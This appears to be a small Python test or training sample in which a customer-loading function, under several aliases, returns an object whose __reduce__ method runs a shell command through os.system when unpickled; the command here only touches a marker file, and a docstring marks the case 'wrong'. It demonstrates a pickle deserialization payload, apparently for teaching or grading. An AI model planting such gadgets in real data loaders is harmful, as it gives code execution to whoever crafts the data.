"""Returns what runs a program where it is unpickled.

Verdict: wrong
"""


class Bomb(dict):
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/dojo-was-here",)


def load_customers(url):
    return [Bomb(id=1)]


load_with_backoff = load_with_jitter = load_unless_hopeless = load_politely = load_customers
